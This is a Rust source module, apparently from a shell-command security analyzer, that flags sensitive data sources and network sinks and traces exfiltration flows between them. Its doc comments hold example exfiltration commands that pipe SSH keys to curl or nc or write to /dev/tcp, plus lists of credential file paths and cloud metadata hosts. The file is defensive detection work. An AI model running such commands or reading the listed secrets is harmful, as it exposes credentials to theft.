//! Exfiltration: sensitive data sources, network sinks, and the data flow between them.
//!
//! Facts:
//! - `data.source`: a command outputs (or a sink reads) sensitive data. Attrs `kind`
//!   (`secret_file`, `env_dump`, `db_dump`, `k8s_secret`, `sql_copy_out`), `path` (the file, or
//!   the program for dumps), `program`. (`k8s_secret`, `kubectl get secret -o yaml`, is made by
//!   the kubectl catalog entry's `get` path: `analyze::k8s::secret_read`.)
//! - `net.send`: a command sends data to another host. Attrs `program`, `host`, `method`
//!   (`upload`: a file or stdin as the request body or a copied file; `post`: form or data
//!   fields; `stream`: raw bytes over a socket or a remote shell's stdin; `copy`: scp, rsync,
//!   sftp, cloud storage; `request`: a plain request whose words contain substitutions),
//!   `stdin` (true if what it sends includes its standard input).
//! - `net.exfil`: a `data.source` reaches a `net.send` (made by [`flows`]). Attrs `source`
//!   (the source kind), `path`, `sink` (the sending program), `host`, `method`.
//!
//! Sources and sinks are found per command by [`catalog`] (what a catalog entry's
//! `[program.send]` and `[[program.prints]]` say, read through [`crate::argv::parse`]), by
//! [`analyze`] (readers of files) and by [`flows`]
//! (redirections: `< ~/.ssh/id_rsa`, `> /dev/tcp/HOST/PORT`, bash manual §3.6). [`flows`] then
//! follows data between the commands of one script: through pipes (transitively:
//! `cat key | base64 | curl -d @- URL`), command and process substitutions into another
//! command's words (`curl "URL?k=$(cat key)"`), and files the sink reads itself
//! (`curl -F f=@key URL`, `scp key host:`).

#![deny(clippy::indexing_slicing, clippy::unwrap_used, clippy::expect_used)]

use super::{program_name, Analyzer, Invocation};
use crate::argv;
use crate::catalog::option_names as names;
use crate::catalog::{BodyMethod, FileForm, Prints, Program, Send, SendMatch, SendMode, StdinUse, STDOUT_FILES};
use crate::fact::{Fact, Span};
use crate::shell::{Flow, Script, Word};
use std::collections::HashMap;
use std::ops::Range;

/// Programs whose sources this module reads itself: readers of files (the files they name).
/// Every other source and every
/// sink is a catalog entry's `[[program.prints]]` or `[program.send]` ([`catalog`]).
pub const PROGRAMS: &[&str] = &[
    "cat", "tac", "nl", "base64", "base32", "basenc", "gzip", "bzip2", "xz", "zstd", "lz4", "tar", "zip", "7z", "xxd",
    "od", "hexdump", "head", "tail", "strings", "openssl", "gpg",
];

/// Source kind of what a database client prints: the rows its queries return.
pub const QUERY_OUTPUT: &str = "query_output";

/// Source kinds (`data.source` attr `kind`).
pub const SECRET_FILE: &str = "secret_file";
const ENV_DUMP: &str = "env_dump";
const SQL_COPY_OUT: &str = "sql_copy_out";

/// Commands whose output does not carry their input (a count or a digest).
const DIGESTS: &[&str] = &["wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "sum", "true", "false", "test", "["];

/// Files in `~/.ssh` that are not secret.
const SSH_PUBLIC: &[&str] = &["config", "known_hosts", "known_hosts.old", "authorized_keys", "authorized_keys2", "environment", "rc"];

/// The path relative to the home directory, if `p` names something in it
/// (`~/x`, `$HOME/x`, `${HOME}/x`, `/home/USER/x`, `/Users/USER/x`, `/root/x`, `~USER/x`).
fn home_relative(p: &str) -> Option<&str> {
    for pre in ["~/", "$HOME/", "${HOME}/", "/root/"] {
        if let Some(r) = p.strip_prefix(pre) {
            return Some(r);
        }
    }
    for pre in ["/home/", "/Users/", "~"] {
        if let Some(r) = p.strip_prefix(pre) {
            return r.split_once('/').map(|(_, rest)| rest);
        }
    }
    None
}

/// The source kind of reading the file `path`, if it holds secrets: private keys, cloud and
/// registry credentials, `.env` files, `/etc/shadow` (kind `secret_file`), or a process
/// environment (`/proc/self/environ`, kind `env_dump`). Globs count when they may match one.
pub fn secret_path(path: &str) -> Option<&'static str> {
    let p = path.trim().trim_start_matches("file://");
    let p = p.strip_prefix("./").unwrap_or(p);
    let p = p.trim_end_matches('/');
    if p.is_empty() {
        return None;
    }
    if let Some(rest) = p.strip_prefix("/proc/")
        && rest.ends_with("/environ") {
            return Some(ENV_DUMP);
        }
    let base = p.rsplit('/').next().unwrap_or(p);
    if let Some(h) = home_relative(p).or(if matches!(p, "~" | "$HOME" | "${HOME}") { Some("") } else { None }) {
        let h = h.trim_start_matches("./");
        if h == ".ssh" {
            return Some(SECRET_FILE);
        }
        if let Some(f) = h.strip_prefix(".ssh/") {
            let f = f.rsplit('/').next().unwrap_or(f);
            return (!f.ends_with(".pub") && !SSH_PUBLIC.contains(&f)).then_some(SECRET_FILE);
        }
        // The home directory itself holds every credential store (`rclone sync ~ r:`,
        // `tar c ~ | nc h 1`).
        if h.is_empty() || super::fs::credential_store(h) {
            return Some(SECRET_FILE);
        }
    }
    if p == "/root" || p.strip_prefix("/home/").is_some_and(|u| !u.is_empty() && !u.contains('/')) {
        return Some(SECRET_FILE);
    }
    // Secrets mounted into a container: the Kubernetes service-account token (and the EKS,
    // Azure workload-identity tokens) under /var/run/secrets, Docker and Compose secrets in
    // /run/secrets (Kubernetes docs, "Configure Service Accounts for Pods"; Docker docs,
    // "Manage sensitive data with Docker secrets"). The CA bundle and namespace are public.
    for dir in ["/var/run/secrets/", "/run/secrets/"] {
        if let Some(rest) = p.strip_prefix(dir) {
            return (!rest.is_empty() && !matches!(base, "ca.crt" | "namespace")).then_some(SECRET_FILE);
        }
    }
    if matches!(p, "/etc/shadow" | "/etc/gshadow" | "/etc/shadow-" | "/etc/gshadow-" | "/etc/master.passwd") {
        return Some(SECRET_FILE);
    }
    if let Some(k) = p.strip_prefix("/etc/ssh/") {
        return (k.starts_with("ssh_host_") && k.ends_with("_key")).then_some(SECRET_FILE);
    }
    if base == ".env" || (base.starts_with(".env.") && !matches!(base, ".env.example" | ".env.sample" | ".env.template" | ".env.dist" | ".env.defaults")) {
        return Some(SECRET_FILE);
    }
    if base.ends_with(".pem") || base.ends_with(".key") || base.ends_with(".p12") || base.ends_with(".pfx") || base.ends_with(".ppk") {
        return Some(SECRET_FILE);
    }
    if matches!(base, "id_rsa" | "id_dsa" | "id_ecdsa" | "id_ed25519" | "id_ecdsa_sk" | "id_ed25519_sk") {
        return Some(SECRET_FILE);
    }
    None
}

fn source(a: &mut Analyzer, inv: &Invocation, kind: &str, path: &str, span: Span) {
    a.push(
        Fact::new("data.source", format!("{} reads {path}", inv.name), span)
            .with("kind", kind)
            .with("path", path.to_string())
            .with("program", inv.name.clone()),
    );
}

/// Pushes a `data.source` if the word names a secret file.
fn file_source(a: &mut Analyzer, inv: &Invocation, w: &Word) {
    if let Some(kind) = secret_path(&w.text) {
        source(a, inv, kind, &w.text, w.span);
    }
}

fn sink(a: &mut Analyzer, inv: &Invocation, host: &str, method: &str, stdin: bool) {
    a.push(
        Fact::new("net.send", format!("{} sends to {host}", inv.name), inv.span())
            .with("program", inv.name.clone())
            .with("host", host.to_string())
            .with("method", method)
            .with("stdin", stdin),
    );
}

/// The host of a URL or `[user@]host[:port]`.
pub fn host_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let hostport = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = hostport.rsplit_once('@').map_or(hostport, |(_, h)| h);
    let host = if hostport.starts_with('[') {
        hostport.split_once(']').map_or(hostport, |(h, _)| h).trim_start_matches('[')
    } else {
        hostport.split(':').next().unwrap_or(hostport)
    };
    host.to_string()
}

/// Analyses one invocation of a program the catalog does not describe as a source or sink:
/// readers of files (`cat`, `base64`, `tar`, ...).
pub fn analyze(a: &mut Analyzer, inv: &Invocation, _depth: usize) {
    let args = inv.args();
    // A sink reads the files its send names (`openssl s_client -cert c.pem` sends no key).
    if crate::catalog::program(&inv.name).and_then(|p| p.send_match(args)).is_some() {
        return;
    }
    // Readers of files: cat, base64, tar, ...
    let mut skip_next = false;
    for (i, w) in args.iter().enumerate() {
        if skip_next {
            skip_next = false;
            continue;
        }
        let t = w.text.as_str();
        if inv.name == "tar" && (t == "-C" || t == "--directory" || (i == 0 && !t.starts_with('-') && t.contains('x')) || t == "-x" || t == "--extract") {
            if t == "-C" || t == "--directory" {
                skip_next = true;
                continue;
            }
            return; // extracting reads an archive, not the named files
        }
        if t.len() > 1 && t.starts_with('-') {
            // `-in FILE` (openssl), `--file=FILE`
            if let Some((_, v)) = t.split_once('=') {
                file_source(a, inv, &Word { text: v.to_string(), ..w.clone() });
            }
            continue;
        }
        file_source(a, inv, w);
    }
}

/// Sources and sinks a catalog entry declares: each `[[program.prints]]` that applies makes a
/// `data.source`, and a `[program.send]` whose path the command line takes makes a `net.send`
/// (`docs/catalog.md`).
///
/// `depth` is the nesting of the command line, for the commands a sink runs itself
/// (socat's `EXEC:` and `SYSTEM:` addresses).
pub fn catalog(a: &mut Analyzer, inv: &Invocation, p: &Program, depth: usize) {
    for pr in &p.prints {
        prints(a, inv, p, pr);
    }
    if p.downloads {
        metadata_source(a, inv);
    }
    // A database client prints what its queries return: sent over the network, that is an
    // export of the database's data (`psql -h db-prod -c 'SELECT ...' | curl -d @- URL`).
    // Only the read-only-in-production profile refuses it (rules/context.toml); reading and
    // sending query results elsewhere is ordinary.
    if p.sql.is_some() {
        source(a, inv, QUERY_OUTPUT, &inv.name, inv.span());
    }
    if let Some(m) = p.send_match(inv.args()) {
        send(a, inv, &m, depth);
    }
}

/// Cloud instance metadata services, which hand out the instance's credentials to whoever on
/// the machine asks (AWS IMDS `169.254.169.254` and `fd00:ec2::254`, GCP
/// `metadata.google.internal`, Azure IMDS `169.254.169.254`, Alibaba Cloud `100.100.100.200`,
/// Oracle Cloud `169.254.169.254`; each provider's instance metadata documentation).
pub const METADATA_HOSTS: &[&str] = &["169.254.169.254", "fd00:ec2::254", "metadata.google.internal", "metadata", "100.100.100.200", "169.254.170.2"];

/// Source kind of what a metadata service answers.
pub const CLOUD_METADATA: &str = "cloud_metadata";

/// A `data.source` (kind `cloud_metadata`) when a downloader fetches a URL of a cloud
/// metadata service ([`METADATA_HOSTS`]): what it prints (role credentials, access tokens)
/// is the instance's identity. Fetching it alone is ordinary on a cloud machine (region,
/// instance id) and stays allowed; sending it anywhere is `net.exfil`.
fn metadata_source(a: &mut Analyzer, inv: &Invocation) {
    for w in inv.args() {
        let t = w.text.as_str();
        if t.starts_with('-') || !(t.contains("://") || t.contains('/')) {
            continue;
        }
        let url = if t.contains("://") { t.to_string() } else { format!("http://{t}") };
        if METADATA_HOSTS.contains(&host_of(&url).as_str()) {
            source(a, inv, CLOUD_METADATA, t, w.span);
            return;
        }
    }
}

/// A `data.source` if the command line prints what `pr` says (see [`Prints`]).
fn prints(a: &mut Analyzer, inv: &Invocation, p: &Program, pr: &Prints) {
    if !pr.names.is_empty() && !pr.names.contains(&inv.name) {
        return;
    }
    let parsed = argv::parse(inv.args(), p.spec());
    // `export A=1`, `declare -x A=1`: declarations are arguments of the builtin.
    let declares = inv.cmd.persistent_assignments && !inv.cmd.assignments.is_empty();
    if pr.no_operands && (declares || !parsed.operands.is_empty()) {
        return;
    }
    let require = names(&pr.require);
    let required = !require.is_empty() && parsed.has(&require);
    // `bare`: no arguments, or a required option; otherwise a required option if any.
    let allowed = if pr.bare { (inv.args().is_empty() && !declares) || required } else { require.is_empty() || required };
    if !allowed {
        return;
    }
    let output = parsed.options.iter().rev().find(|o| pr.output.contains(&o.name));
    if pr.kind == "db_dump" && (pr.stdout || output.is_some()) {
        // A dump copies the database out wherever it goes (a file too): `data.export`.
        a.push(
            Fact::new("data.export", format!("{} copies a database out", inv.name), inv.span()).with("program", inv.name.clone()),
        );
    }
    let to_stdout = match output {
        // `--archive` alone, `-f -`, `--rdb /dev/stdout`; a value missing at the end fails closed.
        Some(o) => o.value.as_ref().is_none_or(|v| STDOUT_FILES.contains(&v.text.as_str())),
        None => pr.stdout,
    };
    if to_stdout {
        let label = pr.label.clone().unwrap_or_else(|| inv.name.clone());
        source(a, inv, &pr.kind, &label, inv.span());
    }
}

/// True if the command line gives the command a standard input: a pipe, a heredoc or
/// here-string, or a `<` redirect of descriptor 0.
fn input_given(inv: &Invocation) -> bool {
    inv.cmd.inputs.iter().any(|i| i.flow == Flow::Pipe)
        || inv.cmd.heredoc.is_some()
        || inv.cmd.redirects.iter().any(|r| r.op == "<" && r.fd.is_none_or(|f| f == 0))
}

/// A `net.send` for a command line that takes its entry's `[program.send]` path.
fn send(a: &mut Analyzer, inv: &Invocation, m: &SendMatch, depth: usize) {
    let s = m.send;
    let reads_stdin = match s.stdin {
        StdinUse::Named => false,
        StdinUse::Always => true,
        StdinUse::Given => input_given(inv),
    } && !m.parsed.has(&names(&s.no_stdin));
    let host_option = m.parsed.value(&names(&s.host)).map(|w| w.text.clone());
    match s.mode {
        SendMode::Request => request(a, inv, m, reads_stdin, host_option),
        SendMode::Stream => {
            if s.stdin == StdinUse::Given && !reads_stdin {
                return; // a terminal session or a remote command, not a stream of data
            }
            let host = if m.parsed.has(&names(&s.listen)) {
                "listen".to_string()
            } else {
                host_option.or_else(|| m.operands().first().map(|w| w.text.clone())).map(|h| host_of(&h)).unwrap_or_default()
            };
            if !host.is_empty() {
                sink(a, inv, &host, "stream", reads_stdin || s.stdin == StdinUse::Always);
            }
        }
        SendMode::Copy => copy(a, inv, m),
        SendMode::Batch => batch(a, inv, m),
        SendMode::Addresses => socat(a, inv, m.operands(), depth),
        SendMode::Files => files(a, inv, m),
    }
}

/// `files` mode (`gh gist create FILE...`, `gh gist create -`): every operand is a local file
/// uploaded to the entry's fixed service; with no operand, a given standard input is.
fn files(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
    let s = m.send;
    let ops = m.operands();
    let mut stdin = ops.is_empty() && input_given(inv);
    for w in ops {
        if stdin_file(s, &w.text) {
            stdin = true;
        } else {
            file_source(a, inv, w);
        }
    }
    sink(a, inv, s.to.as_deref().unwrap_or_default(), "upload", stdin);
}

/// True if `t` names standard input for `s`: one of its `stdin_files` (default `-`), or a
/// descriptor file of it.
fn stdin_file(s: &Send, t: &str) -> bool {
    super::is_stdin_operand(t) || if s.stdin_files.is_empty() { t == "-" } else { s.stdin_files.iter().any(|f| f == t) }
}

/// The file a body option's value names, per its [`FileForm`].
fn body_file(form: FileForm, v: &str) -> Option<&str> {
    match form {
        FileForm::None => None,
        FileForm::Value => Some(v),
        FileForm::At => v.strip_prefix('@'),
        FileForm::NameAt => v.split_once('@').filter(|(name, _)| !name.contains('=')).map(|(_, f)| f),
        FileForm::Form => {
            let (_, val) = v.split_once('=')?;
            let f = val.strip_prefix('@').or_else(|| val.strip_prefix('<'))?;
            Some(f.split(';').next().unwrap_or(f))
        }
    }
}

/// An HTTPie request item (`name=value`, `name:=json`, `name@FILE`, `name=@FILE`,
/// `name:=@FILE`, `Header:value`, `param==value`): whether it sends data, and the file it reads.
/// Separators are found where the first of them starts (HTTPie `RequestItems`).
fn request_item(item: &str) -> (bool, Option<&str>) {
    const SEPARATORS: &[(&str, bool)] = &[(":=@", true), ("=@", true), ("==", false), (":=", true), ("@", true), ("=", true), (":", false)];
    let found = SEPARATORS.iter().filter_map(|(sep, data)| item.find(sep).map(|at| (at, *sep, *data))).min_by_key(|(at, sep, _)| (*at, usize::MAX - sep.len()));
    let Some((at, sep, data)) = found else { return (false, None) };
    let value = item.get(at + sep.len()..).unwrap_or_default();
    let file = sep.ends_with('@').then(|| value.split(';').next().unwrap_or(value));
    (data, file)
}

/// `request` mode (curl, wget, HTTPie): body options, request items and standard input.
fn request(a: &mut Analyzer, inv: &Invocation, m: &SendMatch, reads_stdin: bool, host_option: Option<String>) {
    let s = m.send;
    let mut method: Option<&str> = None;
    let mut stdin = false;
    let mut files: Vec<Word> = vec![];
    for o in &m.parsed.options {
        let Some(b) = s.body.iter().find(|b| b.options.contains(&o.name)) else { continue };
        let file = o.value.as_ref().and_then(|v| body_file(b.file, &v.text).map(|f| Word { text: f.to_string(), ..v.clone() }));
        method = match b.method {
            BodyMethod::Upload => Some("upload"),
            BodyMethod::File if file.is_some() => Some("upload"),
            BodyMethod::File => method,
            BodyMethod::Post => method.or(Some("post")),
        };
        files.extend(file);
    }
    let mut ops = m.operands();
    // `http [METHOD] URL ITEM...`: a first word of letters is the method unless what follows
    // it is a data item (`http localhost k=v`), as HTTPie guesses.
    if s.items
        && let [first, second, ..] = ops
        && !first.text.is_empty()
        && first.text.chars().all(|c| c.is_ascii_alphabetic())
        && !request_item(&second.text).0
    {
        ops = ops.get(1..).unwrap_or_default();
    }
    let url = host_option.or_else(|| ops.first().map(|w| w.text.clone()));
    if s.items {
        for item in ops.get(1..).unwrap_or_default() {
            let (data, file) = request_item(&item.text);
            if data {
                method = method.or(Some("post"));
            }
            if let Some(f) = file {
                files.push(Word { text: f.to_string(), ..item.clone() });
            }
        }
    }
    if reads_stdin {
        method = Some("upload");
        stdin = true;
    }
    for f in &files {
        if stdin_file(s, &f.text) {
            stdin = true;
        } else {
            file_source(a, inv, f);
        }
    }
    let host = url.as_deref().map(host_of).unwrap_or_default();
    // A request to the metadata service itself (the IMDSv2 token in a header) sends nothing away.
    if METADATA_HOSTS.contains(&host.as_str()) {
        return;
    }
    match method {
        Some(method) => sink(a, inv, &host, method, stdin),
        None if inv.args().iter().any(|w| w.dynamic) => sink(a, inv, &host, "request", false),
        None => {}
    }
}

/// `copy` mode (`scp SRC... DEST`, `rsync`, `aws s3 cp`): a remote last operand makes the
/// local operands before it files sent.
fn copy(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
    let s = m.send;
    let remote = |t: &str| {
        if s.schemes.is_empty() {
            remote_host(t)
        } else {
            s.schemes.iter().any(|p| t.starts_with(p.as_str())).then(|| host_of(t))
        }
    };
    let ops = m.operands();
    // The destination is the last operand; with URL schemes, the last remote one (values of
    // options the entry does not list may follow it), unless it is the first operand and
    // something follows: a download (`aws s3 cp s3://b/k ./k`).
    let at = if s.schemes.is_empty() {
        ops.len().checked_sub(1)
    } else {
        ops.iter().rposition(|w| remote(&w.text).is_some()).filter(|&i| i > 0 || ops.len() == 1)
    };
    let Some((dest, srcs)) = at.and_then(|i| Some((ops.get(i)?, ops.get(..i)?))) else { return };
    let Some(host) = remote(&dest.text) else { return };
    let mut stdin = false;
    for w in srcs {
        if stdin_file(s, &w.text) {
            stdin = true;
        } else if remote(&w.text).is_none() {
            file_source(a, inv, w);
        }
    }
    sink(a, inv, &host, "copy", stdin);
}

/// `batch` mode (`sftp [user@]host`, `ftp host`): the commands on standard input that upload
/// (`put LOCAL`) read local files.
fn batch(a: &mut Analyzer, inv: &Invocation, m: &SendMatch) {
    let Some(h) = m.operands().first() else { return };
    let host = remote_host(&h.text).unwrap_or_else(|| host_of(&h.text));
    if let Ok(Some((text, _))) = a.stdin_text(inv) {
        for line in text.lines() {
            let mut parts = line.split_whitespace();
            if parts.next().is_some_and(|c| m.send.commands.iter().any(|k| k == c)) {
                for p in parts.filter(|p| !p.starts_with('-')).take(1) {
                    file_source(a, inv, &Word { text: p.to_string(), ..h.clone() });
                }
            }
        }
    }
    let stdin = inv.cmd.inputs.iter().any(|i| i.flow == Flow::Pipe) || inv.cmd.heredoc.is_some();
    sink(a, inv, &host, "copy", stdin);
}

/// socat(1) addresses: a network one makes it a sink, `FILE:`/`OPEN:` reads a file, and
/// `EXEC:CMD` / `SYSTEM:CMD` runs a command (execvp of its words / `sh -c`), analysed as bash
/// (its address options after the first `,` removed; socat(1) ADDRESS TYPES).
fn socat(a: &mut Analyzer, inv: &Invocation, addrs: &[Word], depth: usize) {
    let mut host = None;
    let mut stdin = false;
    for w in addrs {
        let t = w.text.as_str();
        let (ty, rest) = t.split_once([':', ',']).unwrap_or((t, ""));
        match ty.to_ascii_uppercase().as_str() {
            "TCP" | "TCP4" | "TCP6" | "UDP" | "UDP4" | "UDP6" | "OPENSSL" | "SSL" | "TCP-CONNECT" | "UDP-SENDTO" | "SCTP" | "DCCP" => {
                host = Some(rest.split(':').next().unwrap_or(rest).to_string());
            }
            "TCP-LISTEN" | "TCP4-LISTEN" | "TCP6-LISTEN" | "OPENSSL-LISTEN" | "UDP-LISTEN" => host = Some("listen".into()),
            "-" | "STDIN" | "STDIO" => stdin = true,
            "EXEC" | "SYSTEM" => {
                // `EXEC:"rm -rf /",pty`: the command ends at the first unquoted `,`.
                let cmd = rest.split(',').next().unwrap_or(rest).trim_matches(['"', '\'']);
                let word = Word { text: cmd.to_string(), verbatim_at: None, ..w.clone() };
                a.shell_word(&word, &format!("socat {ty}:"), depth);
            }
            "FILE" | "OPEN" | "GOPEN" | "CREATE" => {
                let path = rest.split(',').next().unwrap_or(rest);
                file_source(a, inv, &Word { text: path.to_string(), ..w.clone() });
            }
            _ => {}
        }
    }
    if let Some(h) = host {
        sink(a, inv, &h, "stream", stdin);
    }
}

/// The host of an scp/rsync operand if it is remote: `host:path`, `user@host:path`,
/// `host::module`, `rsync://host/...`, `scp://host/...`.
fn remote_host(t: &str) -> Option<String> {
    if t.starts_with("rsync://") || t.starts_with("scp://") || t.starts_with("sftp://") {
        return Some(host_of(t));
    }
    let (before, _) = t.split_once(':')?;
    if before.is_empty() || before.contains('/') {
        return None;
    }
    Some(host_of(before))
}

/// The host of a `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` path (bash manual §3.6).
fn dev_net_host(t: &str) -> Option<String> {
    let rest = t.strip_prefix("/dev/tcp/").or_else(|| t.strip_prefix("/dev/udp/"))?;
    Some(rest.split('/').next().unwrap_or(rest).to_string())
}

/// Sources flowing into one command.
#[derive(Default, Clone)]
struct Taint {
    /// Fact indices of `data.source` facts whose data is in the command's output.
    out: Vec<usize>,
}

/// True if `text` expands the variable `name` (`$name`, `${name}`, `${name:-x}`).
fn mentions(text: &str, name: &str) -> bool {
    text.match_indices('$').any(|(i, _)| {
        // `$` is one byte, so `i + 1` is a character boundary.
        let rest = text.get(i + 1..).unwrap_or_default();
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        rest.strip_prefix(name).is_some_and(|r| !r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    })
}

fn add(v: &mut Vec<usize>, items: &[usize]) {
    for &i in items {
        if !v.contains(&i) && v.len() < 16 {
            v.push(i);
        }
    }
}

/// Follows data from sources to sinks across the commands of `sc` (see the module docs) and
/// pushes a `net.exfil` fact for each source that reaches a sink. `ranges[i]` is the range of
/// facts command `i` produced. Producers precede their consumers in `sc.commands` (pipes are
/// built left to right, substitutions before the command that consumes them), so one forward
/// pass suffices.
pub fn flows(a: &mut Analyzer, sc: &Script, ranges: &[Range<usize>]) {
    // Commands with their fact ranges (the shorter of the two lists decides how many).
    let commands: Vec<(&crate::shell::Command, &Range<usize>)> = sc.commands.iter().zip(ranges).collect();
    // Redirections: `< SECRET` is a source, `> /dev/tcp/...` (or a descriptor opened on one
    // by `exec 3<>/dev/tcp/...`) a sink. Sources made here count for the command itself.
    // One entry per command of `commands`.
    let mut redirect_sources: Vec<Vec<usize>> = Vec::with_capacity(commands.len());
    let mut redirect_sinks: Vec<Vec<usize>> = Vec::with_capacity(commands.len());
    let mut sockets: HashMap<String, String> = HashMap::new();
    for (cmd, _) in &commands {
        let (mut cmd_sources, mut cmd_sinks) = (vec![], vec![]);
        let prog = cmd.words.first().map(|w| program_name(&w.text).to_string()).unwrap_or_default();
        for r in &cmd.redirects {
            let t = &r.target;
            let reads = r.op == "<" || r.op == "<>";
            if let Some(host) = dev_net_host(&t.text) {
                if prog == "exec" || prog.is_empty() {
                    sockets.insert(r.fd.map_or_else(|| "1".to_string(), |f| f.to_string()), host.clone());
                }
                if !reads || r.op == "<>" {
                    let label = if prog.is_empty() { "exec".to_string() } else { prog.clone() };
                    a.push(
                        Fact::new("net.send", format!("{label} writes to {}", t.text), t.span)
                            .with("program", label)
                            .with("host", host)
                            .with("method", "stream")
                            .with("stdin", false),
                    );
                    cmd_sinks.push(a.facts.len() - 1);
                }
            } else if let Some(host) = sockets.get(&t.text).filter(|_| r.op == ">&").cloned() {
                a.push(
                    Fact::new("net.send", format!("{prog} writes to a socket on {host}"), t.span)
                        .with("program", prog.clone())
                        .with("host", host)
                        .with("method", "stream")
                        .with("stdin", false),
                );
                cmd_sinks.push(a.facts.len() - 1);
            } else if reads && r.fd.is_none_or(|f| f == 0)
                && let Some(kind) = secret_path(&t.text) {
                    a.push(
                        Fact::new("data.source", format!("{prog} reads {}", t.text), t.span)
                            .with("kind", kind)
                            .with("path", t.text.clone())
                            .with("program", prog.clone()),
                    );
                    cmd_sources.push(a.facts.len() - 1);
                }
        }
        redirect_sources.push(cmd_sources);
        redirect_sinks.push(cmd_sinks);
    }
    // What each command outputs (one entry per command already seen), and what reaches each sink.
    let mut taint: Vec<Taint> = Vec::with_capacity(commands.len());
    let mut exfil: Vec<(usize, usize)> = vec![];
    // Variables assigned a substitution whose output carries sources (`K=$(cat key)`).
    let mut vars: Vec<(String, Vec<usize>)> = vec![];
    let redirects = redirect_sources.iter().zip(&redirect_sinks);
    for (i, ((cmd, range), (cmd_sources, cmd_sinks))) in commands.iter().zip(redirects).enumerate() {
        if cmd.persistent_assignments {
            for (name, w) in &cmd.assignments {
                let mut srcs = vec![];
                // Substitutions are parsed just before the command holding them.
                for (c, t) in commands.iter().zip(&taint).rev().take(64) {
                    if w.dynamic && c.0.span.start >= w.span.start && c.0.span.end <= w.span.end {
                        add(&mut srcs, &t.out);
                    }
                }
                vars.retain(|(v, _)| v != name);
                if !srcs.is_empty() {
                    vars.push((name.clone(), srcs));
                }
            }
        }
        let prog = cmd.words.first().map(|w| program_name(&w.text)).unwrap_or("");
        // `own`: sources the command itself reads (the sink pairs with these); `out`: also those
        // of scripts nested in it (`sh -c 'cat key' | nc h 1`), which reach its output.
        let mut own: Vec<usize> = cmd_sources.clone();
        let mut out: Vec<usize> = cmd_sources.clone();
        let mut sinks: Vec<usize> = vec![];
        for f in (*range).clone() {
            let nested = a.in_nested_script(f, range.start);
            let Some(fact) = a.facts.get(f) else { continue };
            let src = match fact.kind.as_str() {
                "data.source" => Some(f),
                "net.send" if !nested => {
                    sinks.push(f);
                    None
                }
                "sql.copy" if fact.attrs.get("target").and_then(|v| v.as_str()).is_some_and(|t| t.eq_ignore_ascii_case("stdout")) => {
                    let s = Fact::new("data.source", format!("COPY ... TO STDOUT: {}", fact.summary), fact.span)
                        .with("kind", SQL_COPY_OUT)
                        .with("path", fact.summary.clone())
                        .with("program", prog.to_string());
                    a.push(s);
                    Some(a.facts.len() - 1)
                }
                _ => None,
            };
            if let Some(s) = src {
                out.push(s);
                if !nested {
                    own.push(s);
                }
            }
        }
        let mut piped: Vec<usize> = vec![];
        let mut substituted: Vec<usize> = vec![];
        for input in &cmd.inputs {
            // `taint` holds the commands before this one, so later ones are not found.
            let Some(from) = taint.get(input.from).map(|t| t.out.as_slice()) else { continue };
            match input.flow {
                Flow::Pipe => add(&mut piped, from),
                Flow::Substitution => add(&mut substituted, from),
            }
        }
        for (name, srcs) in &vars {
            if cmd.words.iter().chain(cmd.redirects.iter().map(|r| &r.target)).any(|w| w.dynamic && mentions(&w.text, name)) {
                add(&mut substituted, srcs);
            }
        }
        if !DIGESTS.contains(&prog) {
            add(&mut out, &piped);
            add(&mut out, &substituted);
        }
        for &s in &sinks {
            let reads_stdin = a.facts.get(s).and_then(|f| f.attrs.get("stdin")).and_then(|v| v.as_bool()).unwrap_or(false);
            let mut reach: Vec<usize> = substituted.clone();
            add(&mut reach, cmd_sources);
            if reads_stdin {
                add(&mut reach, &piped);
            }
            // Files the sink reads itself (not those of a nested script: for ssh, that is the
            // remote command, reading the remote host's files).
            add(&mut reach, &own);
            exfil.extend(reach.into_iter().map(|src| (src, s)));
        }
        for &s in cmd_sinks {
            exfil.extend(out.iter().map(|&src| (src, s)));
        }
        debug_assert_eq!(taint.len(), i);
        taint.push(Taint { out });
    }
    exfil.dedup();
    for (src, s) in exfil {
        // Both are indices of facts pushed above; a missing one cannot be described.
        let (Some(source), Some(sink)) = (a.facts.get(src), a.facts.get(s)) else { continue };
        let get = |f: &Fact, k: &str| f.attrs.get(k).and_then(|v| v.as_str()).unwrap_or("").to_string();
        let span = Span::new(source.span.start.min(sink.span.start), source.span.end.max(sink.span.end));
        let fact = Fact::new(
            "net.exfil",
            format!("{} ({}) reaches {} sending to {}", get(source, "path"), get(source, "kind"), get(sink, "program"), get(sink, "host")),
            span,
        )
        .with("source", get(source, "kind"))
        .with("path", get(source, "path"))
        .with("sink", get(sink, "program"))
        .with("host", get(sink, "host"))
        .with("method", get(sink, "method"));
        // The data's target is where it was read (`psql -h db-prod ... | curl`).
        let fact = crate::fact::Fact { origin: source.origin.clone(), ..fact };
        a.push(fact);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_paths() {
        for p in [
            "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "$HOME/.ssh/deploy", "~/.ssh/*", "~/.ssh", "/home/al/.ssh/id_rsa",
            "~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json", "~/.kube/config",
            "~/.docker/config.json", "~/.netrc", "~/.pgpass", ".env", "./.env.production", "app/.env", "/etc/shadow",
            "server.pem", "tls/server.key", "/root/.aws/credentials", "id_rsa",
        ] {
            assert!(secret_path(p).is_some(), "{p}");
        }
        for p in ["~/.ssh/id_rsa.pub", "~/.ssh/config", "~/.ssh/known_hosts", ".env.example", "/etc/passwd", "README.md", "~/.kube/cache/x", "env.txt"] {
            assert!(secret_path(p).is_none(), "{p}");
        }
        assert_eq!(secret_path("/proc/self/environ"), Some("env_dump"));
    }

    #[test]
    fn hosts() {
        assert_eq!(host_of("https://u:p@x.example:8080/a?b"), "x.example");
        assert_eq!(remote_host("user@h:/tmp").as_deref(), Some("h"));
        assert_eq!(remote_host("./a:b"), None);
        assert_eq!(remote_host("build.tar.gz"), None);
    }

    #[test]
    fn body_files_and_request_items() {
        assert_eq!(body_file(FileForm::At, "@-"), Some("-"));
